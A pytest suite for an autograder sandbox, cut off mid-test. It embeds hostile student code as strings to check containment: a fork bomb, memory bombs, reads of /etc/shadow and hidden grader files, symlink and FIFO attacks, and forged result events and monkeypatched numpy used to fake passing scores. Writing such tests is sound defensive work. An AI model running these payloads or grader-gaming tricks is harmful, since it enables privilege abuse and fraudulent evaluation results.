"""Hostile and broken submissions: each yields results with a clear message, the right score for the
exercises that are fine, and the grader neither crashes nor hangs.

Most cases use a synthetic one-exercise notebook ("99_hostile", graded like forward_propagation) with a
3-second limit, so the suite stays quick; the cases that must show "the other exercises are unaffected"
use notebook 01. Protections that need root (unprivileged uid, namespaces) are asserted when the
sandbox reports them in force, and otherwise the documented fallback sentence is asserted instead.
"""

import csv
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pytest

from autograder.class_report import REPORT_FILES
from autograder.grading import grade_notebook
from autograder.batch import grade_directory, results_name
from autograder.wire import decode
from autograder.sandbox import UID_BASE, UID_COUNT, Limits, Sandbox, processes_of_uid, unshare_available
from tests.test_autograder import assert_gradescope_schema
from tests.test_autograder_support import (
    fast_options,
    hostile_submission,
    make_notebook,
    one_exercise_spec,
    submission_01,
    write_notebook,
    CORRECT_01,
    SETUP_01,
)

ROOT = Path(__file__).resolve().parent.parent
GOOD = "def forward_propagation(x, theta):\n    return theta * x\n"
FALLBACK = "resource limits only"


def grade_hostile(tmp_path, source, **kwargs):
    """Grade a one-exercise submission whose graded cell is ``source``; return (results, test output)."""
    results = grade_notebook(hostile_submission(tmp_path, source), fast_options(specs=one_exercise_spec(), **kwargs))
    assert_gradescope_schema(results)
    return results, results["tests"][0]["output"] if results["tests"] else results["output"]


def by_id(results):
    return {t["name"].rsplit("[", 1)[1].rstrip("]"): t for t in results["tests"]}


def outcome(results, grade_id="forward_propagation"):
    """The grader's own outcome of one exercise (``extra_data.outcome``; the class report counts it)."""
    return by_id(results)[grade_id]["extra_data"]["outcome"]


def test_the_synthetic_good_answer_passes(tmp_path):
    """Baseline for this suite: the same harness gives full marks to a correct answer."""
    results, output = grade_hostile(tmp_path, GOOD)
    assert results["score"] == 1.0 and "forward_propagation passed 11 cases" in output
    assert results["tests"][0]["mistake_ids"] == []


# ---------------------------------------------------------------------------------------------------
# Runaway code
# ---------------------------------------------------------------------------------------------------

def test_infinite_loop_in_one_exercise_costs_only_that_exercise(tmp_path):
    """An endless loop in backward_propagation is stopped at the time limit; the others score."""
    results = grade_notebook(submission_01(tmp_path, backward_propagation=(
        "def backward_propagation(x, theta):\n    while True:\n        pass\n")), fast_options(wall=2))
    tests = by_id(results)
    assert tests["backward_propagation"]["score"] == 0.0
    assert "time limit" in tests["backward_propagation"]["output"]
    assert tests["forward_propagation"]["score"] == 1.0 and tests["gradient_check"]["score"] == 2.0
    assert [outcome(results, g) for g in tests] == ["passed", "timeout", "passed"]


def test_infinite_loop_at_the_top_of_a_cell(tmp_path):
    """A loop outside any function (in the cell itself) is stopped too."""
    results, output = grade_hostile(tmp_path, GOOD + "while True:\n    pass\n", wall=2)
    assert results["score"] == 0.0 and "time limit" in output and outcome(results) == "timeout"


def test_memory_bomb(tmp_path):
    """Allocating far beyond the memory limit fails that exercise with a memory message."""
    results, output = grade_hostile(tmp_path, "def forward_propagation(x, theta):\n"
                                              "    hog = bytearray(50 * 1024 ** 3)\n    return theta * x\n")
    assert results["score"] == 0.0 and "memory" in output


def test_growing_memory_bomb(tmp_path):
    """Memory taken step by step hits the limit as well (MemoryError or a kill), never the machine."""
    results, output = grade_hostile(tmp_path, "def forward_propagation(x, theta):\n    hog = []\n"
                                              "    while True:\n        hog.append(bytearray(10 ** 7))\n")
    assert results["score"] == 0.0 and ("memory" in output or "time limit" in output)


def test_fork_bomb_is_contained_and_cleaned_up(tmp_path):
    """A fork bomb hits the process limit, is stopped, and leaves no process behind."""
    # Each process keeps forking, as a bomb does, but retries 100 times a second instead of spinning: the
    # processes still fill the process limit and race the cleanup, and the cores stay free for the rest of
    # the suite (the busy-loop tests above cover code that spins).
    source = ("import os, time\n"
              "def forward_propagation(x, theta):\n"
              "    while True:\n"
              "        try:\n"
              "            os.fork()\n"
              "        except OSError:\n"
              "            time.sleep(0.01)\n")
    results, output = grade_hostile(tmp_path, source, wall=2)
    assert results["score"] == 0.0
    assert "time limit" in output or "ended" in output
    # the same bomb straight through the sandbox: once run() returns, its uid has no process left
    sandbox = Sandbox(Limits(wall_seconds=2, cpu_seconds=2, memory_mb=512))
    try:
        result = sandbox.run({"cells": [{"label": "bomb", "source": source}], "function": "forward_propagation",
                              "references": {}, "forbidden": [], "judge": JUDGE})
    finally:
        sandbox.close()
    assert result.status == "timeout"
    assert result.leftover_processes == []
    if sandbox.isolated:
        assert processes_of_uid(result.protections["uid"]) == []


@pytest.mark.parametrize("call, words", [("sys.exit(0)", "sys.exit()"), ("exit()", "sys.exit()"),
                                         ("os._exit(0)", "os._exit()")])
def test_exit_inside_the_graded_function(tmp_path, call, words):
    """sys.exit / exit / os._exit inside the function: a clear message, score 0, results written."""
    source = f"import os, sys\ndef forward_propagation(x, theta):\n    {call}\n"
    results, output = grade_hostile(tmp_path, source)
    assert results["score"] == 0.0 and words in output and outcome(results) == "crash"


def test_sys_exit_at_the_top_of_the_cell_after_a_correct_definition(tmp_path):
    """A cell that defines the function then exits: the function is still graded (and passes)."""
    results, output = grade_hostile(tmp_path, GOOD + "import sys\nsys.exit('bye')\n")
    assert results["score"] == 1.0
    assert "sys.exit()" in output


# ---------------------------------------------------------------------------------------------------
# Escaping the sandbox
# ---------------------------------------------------------------------------------------------------

def test_os_system_and_writes_outside_the_work_directory_fail(tmp_path):
    """os.system and open() cannot write outside the sandbox's temporary directory."""
    target = tmp_path / "victim"
    target.mkdir()
    target.chmod(0o777)  # even a world-writable directory is out of reach
    source = (f"import os\n"
              f"os.system('touch {target}/from_system')\n"
              f"try:\n    open('{target}/from_open', 'w').write('x')\nexcept OSError:\n    pass\n"
              f"open('inside_workdir.txt', 'w').write('fine')\n" + GOOD)
    results, output = grade_hostile(tmp_path, source)
    assert results["score"] == 1.0
    written = sorted(p.name for p in target.iterdir())
    if unshare_available():  # what this machine allows (root + unshare)
        assert written == []
    else:  # documented fallback: without root, only resource limits apply
        assert FALLBACK in results["output"]


def test_the_grader_files_and_masters_are_hidden(tmp_path):
    """Reading the grader's code, the masters (solutions) or the hidden specs finds nothing."""
    paths = [ROOT / "autograder" / "specs.py", ROOT / "notebooks" / "source" / "01_gradient_check_1d.ipynb",
             ROOT / "tests" / "student_solutions.py"]
    source = ("found = []\n"
              f"for p in {[str(p) for p in paths]!r}:\n"
              "    try:\n        found.append(open(p).read()[:2000])\n"
              "    except OSError as e:\n        print('blocked', type(e).__name__)\n"
              "print('LEAK' + ''.join(found))\n" + GOOD)
    results, output = grade_hostile(tmp_path, source)
    assert results["score"] == 1.0
    if unshare_available():  # what this machine allows (root + unshare)
        assert output.count("blocked") == len(paths)
        assert "BEGIN SOLUTION" not in output and HIDDEN_MARK not in output
    else:
        assert FALLBACK in results["output"]


def test_no_network(tmp_path):
    """A connection attempt fails inside the sandbox (network namespace without interfaces)."""
    source = ("import socket\n"
              "def forward_propagation(x, theta):\n"
              "    s = socket.socket()\n    s.settimeout(1)\n"
              "    return theta * x if s.connect_ex(('1.1.1.1', 80)) != 0 else 'connected'\n")
    results, output = grade_hostile(tmp_path, source)
    if unshare_available():  # what this machine allows (root + unshare)
        assert results["score"] == 1.0
    else:
        assert FALLBACK in results["output"]


def test_student_code_runs_as_an_unprivileged_user(tmp_path):
    """As root, the student's uid is one of the sandbox uids and it cannot read root's files."""
    source = ("import os\nprint('uid', os.getuid())\n"
              "try:\n    open('/etc/shadow').read()\n    print('shadow readable')\n"
              "except OSError:\n    print('shadow blocked')\n" + GOOD)
    results, output = grade_hostile(tmp_path, source)
    if unshare_available():  # what this machine allows (root + unshare)
        uid = int(output.split("uid ", 1)[1].split()[0])
        assert UID_BASE <= uid < UID_BASE + UID_COUNT
        assert "shadow blocked" in output
    else:
        assert FALLBACK in results["output"]


def test_in_a_batch_one_student_cannot_read_another_students_notebook(tmp_path):
    """The folder of submissions and the results directory are hidden from student code."""
    folder = tmp_path / "subs"
    folder.mkdir()
    hostile_submission(folder, "def forward_propagation(x, theta):\n    return theta * x  # SECRET-ANSWER\n",
                       "alice.ipynb")
    spy = ("try:\n"
           f"    print('LEAK' + open({str(folder / 'alice.ipynb')!r}).read())\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)\n"
           "def forward_propagation(x, theta):\n    return 0.0\n")
    hostile_submission(folder, spy, "mallory.ipynb")
    graded = dict(grade_directory(folder, tmp_path / "out", fast_options(specs=one_exercise_spec()), jobs=2))
    mallory = graded[folder / "mallory.ipynb"]["tests"][0]["output"]
    assert graded[folder / "alice.ipynb"]["score"] == 1.0
    if unshare_available():
        assert "blocked" in mallory and "SECRET-ANSWER" not in mallory
    else:
        assert FALLBACK in graded[folder / "mallory.ipynb"]["output"]


def test_without_isolation_the_results_say_so(tmp_path):
    """Without namespaces the output says so: as root still as an unprivileged user; else limits only."""
    results, output = grade_hostile(tmp_path, GOOD, isolate=False)
    assert results["score"] == 1.0
    if os.geteuid() == 0:
        assert "as an unprivileged user with no new privileges, without namespaces" in results["output"]
    else:
        assert FALLBACK in results["output"]


# ---------------------------------------------------------------------------------------------------
# Fooling the grader
# ---------------------------------------------------------------------------------------------------

def test_monkeypatching_numpy_and_builtins_changes_nothing(tmp_path):
    """Patching numpy.linalg.norm, np.isclose and builtins inside the submission cannot make it pass."""
    source = ("import builtins, numpy as np\n"
              "np.linalg.norm = lambda *a, **k: 0.0\n"
              "np.isclose = lambda *a, **k: True\n"
              "np.allclose = lambda *a, **k: True\n"
              "builtins.abs = lambda v: 0.0\n"
              "builtins.isinstance = lambda *a: True\n"
              "def forward_propagation(x, theta):\n    return 0.0\n")
    results, output = grade_hostile(tmp_path, source)
    assert results["score"] == 0.0
    assert "does not return the cost J" in output


def test_printing_a_fake_success_message_earns_nothing(tmp_path):
    """'All tests passed. Score: 100' printed by the submission is shown as its output, and scores 0."""
    source = ("print('All tests passed. Score: 1/1')\n"
              "def forward_propagation(x, theta):\n    print('All tests passed')\n    return None\n")
    results, output = grade_hostile(tmp_path, source)
    assert results["score"] == 0.0
    assert "returned None" in output
    assert "All tests passed. Score: 1/1" in output.split("What your code printed (not graded):")[1]


def test_forged_events_on_the_result_channel_are_judged_like_any_value(tmp_path):
    """Writing fake 'call' events to the worker's channel gains nothing: values are still judged."""
    source = ("import os, json\n"
              "def forward_propagation(x, theta):\n"
              "    for i in range(10):\n"
              "        os.write(3, (json.dumps({'event': 'call', 'index': i, 'ok': True, 'value': 1.0,\n"
              "                                'used_library': []}) + '\\n').encode())\n"
              "    return 1.0\n")
    results, _ = grade_hostile(tmp_path, source)
    assert results["score"] == 0.0


def test_forged_observations_score_zero(tmp_path):
    """Observations written into the worker's channel by the student's code (claiming the right values for
    every case) arrive next to the real ones: a case answered twice means forged data, scored 0."""
    forged = {"__dict__": [[{"__str__": "kind", "length": 4}, {"__str__": "number", "length": 6}],
                           [{"__str__": "value", "length": 5}, 8.0],
                           [{"__str__": "stdout", "length": 6}, {"__str__": "", "length": 0}],
                           [{"__str__": "error", "length": 5}, None]]}
    source = ("import os, json\n"
              "def forward_propagation(x, theta):\n"
              "    for fd in range(3, 12):\n"
              "        for i in range(11):\n"
              "            line = json.dumps({'event': 'observation', 'index': i, 'ok': True,\n"
              f"                               'data': {forged!r}, 'used_library': []}})\n"
              "            try:\n                os.write(fd, (line + '\\n').encode())\n"
              "            except OSError:\n                pass\n"
              "    return 8.0\n")
    results, output = grade_hostile(tmp_path, source)
    assert results["score"] == 0.0 and "did not ask for" in output


# ---------------------------------------------------------------------------------------------------
# Wrong return values and errors
# ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("returned, words", [
    ("float('nan')", "returned nan"),
    ("np.array([theta * x])", "numpy array of shape (1,)"),
    ("np.ones((2, 3))", "numpy array of shape (2, 3)"),
    ("'theta * x'", "returned a str"),
    ("None", "returned None"),
    ("type('Evil', (), {'__repr__': lambda s: 1 / 0})()", "returned a Evil"),
])
def test_wrong_return_types(tmp_path, returned, words):
    """NaN, arrays, wrong shapes, strings, None and odd objects each get a message saying what came back."""
    results, output = grade_hostile(tmp_path, f"import numpy as np\ndef forward_propagation(x, theta):\n"
                                              f"    return {returned}\n")
    assert results["score"] == 0.0 and words in output and outcome(results) == "failed"


def test_raising_inside_the_graded_function(tmp_path):
    """An exception names its type, message and the line of the cell."""
    results, output = grade_hostile(tmp_path, "def forward_propagation(x, theta):\n"
                                              "    raise ValueError('oops, a bug')\n")
    assert results["score"] == 0.0
    assert "ValueError (line 2 of the cell): oops, a bug" in output and outcome(results) == "crash"


def test_syntax_error_in_one_graded_cell(tmp_path):
    """A syntax error costs that exercise only, with its line number."""
    results = grade_notebook(submission_01(tmp_path, backward_propagation=(
        "def backward_propagation(x, theta)\n    return x\n")), fast_options())
    tests = by_id(results)
    assert tests["backward_propagation"]["score"] == 0.0
    assert "SyntaxError (line 1 of the cell)" in tests["backward_propagation"]["output"]
    assert results["score"] == 3.0 and outcome(results, "backward_propagation") == "crash"


def test_broken_exploratory_cell_costs_nothing(tmp_path):
    """Ungraded cells are not run: an error (or a loop) in one changes nothing."""
    extra = [nbformat.v4.new_code_cell("raise RuntimeError('scratch')\nwhile True: pass")]
    nb = make_notebook("01_gradient_check_1d", SETUP_01, dict(CORRECT_01), extra_cells=extra)
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
    assert results["score"] == 4.0


# ---------------------------------------------------------------------------------------------------
# Damaged notebooks
# ---------------------------------------------------------------------------------------------------

def test_deleted_graded_cell(tmp_path):
    """A deleted exercise cell scores 0 with a message; the other exercises are graded."""
    answers = {k: v for k, v in CORRECT_01.items() if k != "backward_propagation"}
    nb = make_notebook("01_gradient_check_1d", SETUP_01, answers)
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
    tests = by_id(results)
    assert tests["backward_propagation"]["score"] == 0.0
    assert "was the exercise cell deleted" in tests["backward_propagation"]["output"]
    assert results["score"] == 3.0 and outcome(results, "backward_propagation") == "missing"


def test_stripped_cell_metadata_is_found_by_its_definition(tmp_path):
    """A cell that lost its nbgrader metadata is found by `def name(` and graded, with a note."""
    nb = make_notebook("01_gradient_check_1d", SETUP_01, dict(CORRECT_01))
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "gradient_check":
            del cell.metadata["nbgrader"]
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
    assert results["score"] == 4.0
    assert "lost its metadata" in by_id(results)["gradient_check"]["output"]


def test_notebook_metadata_stripped_is_recognised_by_its_functions(tmp_path):
    """Without metadata.course the notebook is recognised from the functions it defines."""
    nb = make_notebook(None, SETUP_01, dict(CORRECT_01))
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
    assert results["score"] == 4.0 and "recognised as 01_gradient_check_1d" in results["output"]


def test_duplicate_grade_ids(tmp_path):
    """Two cells with one grade_id: the last one is graded, and the feedback says so."""
    nb = make_notebook("01_gradient_check_1d", SETUP_01, dict(CORRECT_01))
    wrong = nbformat.v4.new_code_cell("def forward_propagation(x, theta):\n    return x + theta\n")
    wrong.metadata["nbgrader"] = {"schema_version": 3, "grade": False, "solution": True, "locked": False,
                                  "grade_id": "forward_propagation", "points": 0}
    nb.cells.insert(2, wrong)  # an earlier, wrong copy
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
    test = by_id(results)["forward_propagation"]
    assert test["score"] == 1.0 and "the last one" in test["output"]


@pytest.mark.parametrize("content, words", [
    (b"", "is empty"),
    (b"{\"cells\": [", "JSON is broken"),
    (b"[1, 2, 3]", "not a Jupyter notebook"),
    (b"{\"cells\": [{\"cell_type\": 7}], \"nbformat\": 4}", "not a notebook nbformat can read"),
    (b"PK\x03\x04\x00\xff\xfe", "not a notebook"),
    ("Dear professor, here is my homework".encode(), "JSON is broken"),
])
def test_files_that_are_not_notebooks(tmp_path, content, words):
    """Empty, truncated, non-notebook JSON, invalid notebooks and binary files get a clear message."""
    path = tmp_path / "sub.ipynb"
    path.write_bytes(content)
    results = grade_notebook(path, fast_options())
    assert_gradescope_schema(results)
    assert results["score"] == 0.0 and results["tests"] == []
    assert words in results["output"]


def test_unknown_notebook(tmp_path):
    """A notebook of another course: score 0 and the known notebook ids are listed."""
    nb = make_notebook("07_something_else", "import numpy as np\n", {"f": "def f():\n    return 1\n"})
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
    assert results["score"] == 0.0 and "01_gradient_check_1d" in results["output"]


def test_huge_stored_output_and_huge_printed_output(tmp_path):
    """A 30 MB stored output is ignored; printing 200 MB (in the cell, and in the function, whose output
    the judge captures) is cut short; the answer is still graded."""
    nb = make_notebook("99_hostile", "import numpy as np\n", {"forward_propagation": (
        "print('y' * 200_000_000)\n"
        "def forward_propagation(x, theta):\n    print('y' * 200_000_000)\n    return theta * x\n")})
    nb.cells[2].outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 30_000_000)]
    path = write_notebook(nb, tmp_path / "huge.ipynb")
    results = grade_notebook(path, fast_options(specs=one_exercise_spec(), wall=10))
    output = results["tests"][0]["output"]
    assert results["score"] == 1.0
    assert "output truncated" in output and len(json.dumps(results)) < 100_000


def test_grader_process_survives_every_hostile_file_via_the_cli(tmp_path):
    """Through the CLI, a directory of hostile files is graded with exit 0 and one results file each."""
    folder = tmp_path / "subs"
    folder.mkdir()
    hostile_submission(folder, "import os\nos._exit(3)\n", "exit.ipynb")
    hostile_submission(folder, "def forward_propagation(x, theta)\n", "syntax.ipynb")
    (folder / "empty.ipynb").write_bytes(b"")
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-m", "autograder", "batch", str(folder), "--results-dir", str(out),
                           "--timeout", "3"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "Traceback" not in done.stderr
    assert sorted(p.name for p in out.glob("*.json") if p.name not in REPORT_FILES) == [
        "empty.json", "exit.json", "syntax.json"]


# ---------------------------------------------------------------------------------------------------
# Issue 12: nothing escapes, nothing hangs, nothing is lost
# ---------------------------------------------------------------------------------------------------

ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="the uid switch and cgroups need a root grader")
NEEDS_NAMESPACES = pytest.mark.skipif(not unshare_available(), reason="needs root and a working unshare")
#: Both ways a root grader runs student code: with namespaces (when unshare works) and without.
MODES = [pytest.param(None, id="namespaces", marks=NEEDS_NAMESPACES),
         pytest.param(False, id="no-namespaces", marks=ROOT_ONLY)]
SPECS_PY = ROOT / "autograder" / "specs.py"
HIDDEN_MARK = "def notebook_specs("  # a line of the grader's specs (autograder/specs.py)
#: The judge a raw sandbox request asks for (the grader's request for forward_propagation).
JUDGE = {"exercise": "forward_propagation", "seed": 0}
ROOMY = 15.0  # seconds per exercise where a correct answer must pass (generous: start-up on a slow machine)


def _sandbox_run(source, isolate=None, wall=ROOMY, **limits):
    """Run ``source`` (which defines forward_propagation) straight through a Sandbox; return (result, sandbox)."""
    sandbox = Sandbox(Limits(wall_seconds=wall, cpu_seconds=int(wall), memory_mb=limits.pop("memory_mb", 768),
                             **limits), isolate=isolate)
    try:
        result = sandbox.run({"cells": [{"label": "x", "source": source}], "function": "forward_propagation",
                              "references": {}, "forbidden": [], "judge": JUDGE})
    finally:
        sandbox.used_root = sandbox.temp_root  # the run's temporary folder, removed by close()
        sandbox.close()
    return result, sandbox


def _shadow_head():
    """The first field of /etc/shadow (root only), to prove it never reaches feedback."""
    try:
        return Path("/etc/shadow").read_text().split(":", 1)[0] + ":"
    except OSError:
        return None


@pytest.mark.parametrize("isolate", MODES)
@pytest.mark.parametrize("target", ["/etc/shadow", str(SPECS_PY)])
def test_output_file_replaced_by_a_link_leaks_nothing(tmp_path, isolate, target):
    """Issue input: remove output.txt and link it to a root-only file. The grader reads output from a pipe
    opened before student code ran, so the link leads nowhere; the exact input (whose remove fails) costs
    the exercise with a clear message, the variant that survives it is graded normally."""
    exact = f"import os\nos.remove('output.txt')\nos.symlink({target!r}, 'output.txt')\n" + GOOD
    results, output = grade_hostile(tmp_path, exact, isolate=isolate, wall=ROOMY)
    assert results["score"] == 0.0 and "FileNotFoundError" in output
    variant = (f"import os\nfor name in ('output.txt', 'results.json', 'events'):\n"
               f"    try:\n        os.remove(name)\n    except OSError:\n        pass\n"
               f"    os.symlink({target!r}, name)\n" + GOOD)
    results, output = grade_hostile(tmp_path, variant, isolate=isolate, wall=ROOMY)
    assert results["score"] == 1.0
    text = json.dumps(results)
    assert HIDDEN_MARK not in text and "BEGIN SOLUTION" not in text
    if _shadow_head():
        assert _shadow_head() not in text


@pytest.mark.parametrize("isolate", MODES)
def test_fifo_in_place_of_the_output_file_neither_blocks_nor_leaves_folders(tmp_path, isolate):
    """Issue input: os.mkfifo('output.txt'). The run ends normally, its folders are removed."""
    source = "import os\ntry:\n    os.remove('output.txt')\nexcept OSError:\n    pass\nos.mkfifo('output.txt')\n" + GOOD
    result, sandbox = _sandbox_run(source, isolate=isolate)
    assert result.status == "finished"
    first = next(e for e in result.events if e.get("event") == "observation" and e.get("index") == 0)
    assert decode(first["data"])["value"] == 8.0  # forward_propagation(x=2, theta=4), the judge's first case
    assert sandbox.used_root and not os.path.exists(sandbox.used_root)
    assert result.leftover_processes == []


@pytest.mark.parametrize("isolate", MODES)
def test_batch_with_link_and_fifo_attacks_writes_every_row(tmp_path, isolate):
    """In batch mode the link and FIFO attacks cannot stop the gradebook: one row each, good ones full."""
    folder = tmp_path / "subs"
    folder.mkdir()
    hostile_submission(folder, "import os\nos.mkfifo('output.txt')\n" + GOOD, "fifo.ipynb")
    hostile_submission(folder, "import os\nos.symlink('/etc/shadow', 'output.txt')\n" + GOOD, "link.ipynb")
    hostile_submission(folder, GOOD, "good.ipynb")
    options = fast_options(specs=one_exercise_spec(), isolate=isolate, wall=ROOMY)
    graded = dict(grade_directory(folder, tmp_path / "out", options, jobs=2))
    rows = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
    assert sorted(r["submission"] for r in rows) == ["fifo.ipynb", "good.ipynb", "link.ipynb"]
    assert all(graded[folder / n]["score"] == 1.0 for n in ("fifo.ipynb", "good.ipynb", "link.ipynb"))
    if _shadow_head():
        assert _shadow_head() not in (tmp_path / "out" / "link.json").read_text()


@pytest.mark.parametrize("isolate", MODES)
def test_no_new_privileges_and_detached_processes_do_not_survive(tmp_path, isolate, cgroups):
    """Issue input: a process that leaves the session (double fork + setsid) and execs a program. It runs
    with no-new-privileges (a set-uid program would not elevate) and is gone when grading returns."""
    marker = f"ag-escapee-{os.getpid()}-{tmp_path.name}"
    source = ("import os\n"
              "print([l for l in open('/proc/self/status') if l.startswith('NoNewPrivs')])\n"
              "if os.fork() == 0:\n"
              "    os.setsid()\n"
              "    if os.fork() == 0:\n"
              f"        os.execv('/bin/sleep', [{marker!r}, '300'])\n"
              "    os._exit(0)\n" + GOOD)
    result, _ = _sandbox_run(source, isolate=isolate)
    assert result.status == "finished" and "NoNewPrivs:\\t1" in result.student_output
    assert result.protections["no_new_privileges"] is True
    alive = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                alive.append(Path(f"/proc/{entry}/cmdline").read_bytes())
            except OSError:
                continue
    assert not [c for c in alive if marker.encode() in c]
    assert result.leftover_processes == []


SHM = ("import ctypes, ctypes.util\n"
       "libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)\n"
       "libc.shmat.restype = ctypes.c_void_p\n")


@pytest.mark.parametrize("isolate", MODES)
def test_system_v_ipc_does_not_outlive_the_submission(tmp_path, isolate):
    """Issue input: shared memory, a message queue and a semaphore created by one submission are gone
    afterwards (own IPC namespace, or removed by owner without namespaces); the next one finds nothing."""
    key = 0x5A000000 + (os.getpid() % 0xFFFF)
    create = (SHM + f"sid = libc.shmget({key}, 4096, 0o1666)\n"
              "ctypes.memmove(libc.shmat(sid, None, 0), b'SECRET-ANSWER', 13)\n"
              f"libc.msgget({key}, 0o1666)\nlibc.semget({key}, 1, 0o1666)\n"
              "print('created', sid)\n" + GOOD)
    result, _ = _sandbox_run(create, isolate=isolate)
    assert "created" in result.student_output and "created -1" not in result.student_output
    for kind in ("shm", "msg", "sem"):
        keys = [line.split()[0] for line in Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]]
        assert str(key) not in keys, f"{kind} {key} survived"
    probe = SHM + f"print('found', libc.shmget({key}, 0, 0))\n" + GOOD
    result, _ = _sandbox_run(probe, isolate=isolate)
    assert "found -1" in result.student_output


@NEEDS_NAMESPACES
def test_grade_mode_sees_neither_sibling_folders_nor_tmp(tmp_path):
    """Issue input: in `grade` mode a classmate's notebook in a sibling folder and any file of /tmp were
    readable. The sandbox now has its own root: only the system, Python, the library and its work folder."""
    (tmp_path / "bob").mkdir()
    secret = tmp_path / "bob" / "bob.ipynb"
    secret.write_text("SECRET-ANSWER")
    secret.chmod(0o644)
    loose = Path(tempfile.mkstemp(prefix="ag-loose-", dir="/tmp")[1])
    loose.write_text("SECRET-ANSWER")
    loose.chmod(0o644)
    try:
        (tmp_path / "alice").mkdir()
        source = ("import os\n"
                  f"for p in [{str(secret)!r}, {str(loose)!r}, '/work', '/home', '/root', '/sys']:\n"
                  "    try:\n        print('LEAK', open(p).read()[:50])\n"
                  "    except OSError as e:\n        print('blocked', type(e).__name__)\n"
                  "print('tmp holds', sorted(os.listdir('/tmp')))\n" + GOOD)
        results, output = grade_hostile(tmp_path / "alice", source, wall=ROOMY)
    finally:
        loose.unlink()
    assert results["score"] == 1.0
    assert "SECRET-ANSWER" not in output and output.count("blocked") == 6
    listed = set(eval(output.split("tmp holds ", 1)[1].splitlines()[0]))
    # The sandbox mounts the library and the Python environment read-only at their own paths: when this
    # checkout (a CI clone, say) or the environment lives under /tmp, the first folder of that path shows.
    mounted = {Path(p).resolve().relative_to("/tmp").parts[0] for p in (ROOT, sys.prefix, sys.base_prefix)
               if Path(p).resolve().is_relative_to("/tmp")}
    assert not any(name.startswith("ag-loose") for name in listed)
    assert len(listed - mounted) <= 1, listed  # besides those, only the path to its own work folder


@ROOT_ONLY
def test_no_namespace_path_hidden_tests_unreadable_and_grader_unwritable(tmp_path):
    """Issue input: in a container that refuses unshare (forced here with AUTOGRADER_NAMESPACES=0), student
    code ran as root. Now it runs as an unprivileged uid that can neither read the hidden tests nor write
    into the grader's folder."""
    probe = ROOT / "autograder" / f"pwned-{tmp_path.name}"
    source = ("import os\nprint('uid', os.getuid())\n"
              f"try:\n    print('LEAK', open({str(SPECS_PY)!r}).read())\n"
              "except OSError as e:\n    print('specs blocked', type(e).__name__)\n"
              f"try:\n    open({str(probe)!r}, 'w').write('x')\n    print('WROTE')\n"
              "except OSError as e:\n    print('write blocked', type(e).__name__)\n" + GOOD)
    sub = hostile_submission(tmp_path, source)
    script = ("import json, sys\nsys.path.insert(0, sys.argv[1])\n"
              "from autograder.grading import grade_notebook\n"
              "from tests.test_autograder_support import fast_options, one_exercise_spec\n"
              "r = grade_notebook(sys.argv[2], fast_options(specs=one_exercise_spec(), wall=15.0))\n"
              "print(json.dumps(r))\n")
    env = dict(os.environ, AUTOGRADER_NAMESPACES="0")
    done = subprocess.run([sys.executable, "-c", script, str(ROOT), str(sub)], env=env, capture_output=True,
                          text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    results = json.loads(done.stdout.splitlines()[-1])
    output = results["tests"][0]["output"]
    assert results["score"] == 1.0 and "without namespaces" in results["output"]
    assert "specs blocked PermissionError" in output and "write blocked PermissionError" in output
    assert HIDDEN_MARK not in output and not probe.exists()
    assert UID_BASE <= int(output.split("uid ", 1)[1].split()[0]) < UID_BASE + UID_COUNT
    assert SPECS_PY.parent.stat().st_mode & 0o077 == 0  # the grader's folder is closed to other users


def test_blank_lines_without_metadata_are_scanned_in_linear_time(tmp_path):
    """Issue input: no metadata id and one code cell of 300,000 newlines took ~25 minutes (a pattern
    quadratic in blank lines). The scan is one linear pass: the notebook is recognised and graded; the
    generous limit (a quadratic scan needs minutes even on a fast machine) only catches a regression."""
    answers = dict(CORRECT_01)
    answers["forward_propagation"] = "\n" * 300_000 + answers["forward_propagation"]
    nb = make_notebook(None, SETUP_01, answers)
    nb.cells.append(nbformat.v4.new_code_cell("\n" * 300_000))
    start = time.monotonic()
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options(wall=ROOMY))
    assert results["score"] == 4.0 and "recognised as 01_gradient_check_1d" in results["output"]
    assert time.monotonic() - start < 120


def _max_rss_mb_of(script, *args):
    """Run ``script`` in a fresh interpreter (project on sys.path); return (its stdout, peak RSS in MB)."""
    code = ("import sys\nsys.path.insert(0, sys.argv[1])\n" + script +  # VmHWM restarts at exec (ru_maxrss does not)
            "\nprint('RSS', int([l for l in open('/proc/self/status') if l.startswith('VmHWM:')][0].split()[1]) / 1024)\n")
    done = subprocess.run([sys.executable, "-c", code, str(ROOT), *map(str, args)], capture_output=True,
                          text=True, timeout=600, env=dict(os.environ, MPLBACKEND="Agg"))
    assert done.returncode == 0, done.stderr
    return done.stdout, float(done.stdout.rsplit("RSS ", 1)[1])


def test_99_mb_of_tiny_cells_is_refused_before_parsing(tmp_path):
    """Issue input: a 99 MB notebook of 900,000 tiny cells (under the 100 MB cap) took a minute and 2.3 GB.
    It is refused from one counting pass, with a message, while the grader stays small."""
    cell = b'{"cell_type": "raw", "metadata": {}, "source": "x"},\n'
    count = 99 * 2**20 // len(cell)
    path = tmp_path / "tiny.ipynb"
    with open(path, "wb") as handle:
        handle.write(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [\n')
        for _ in range(count // 1000):
            handle.write(cell * 1000)
        handle.write(cell * (count % 1000 - 1) + cell.rstrip(b",\n") + b"\n]}\n")
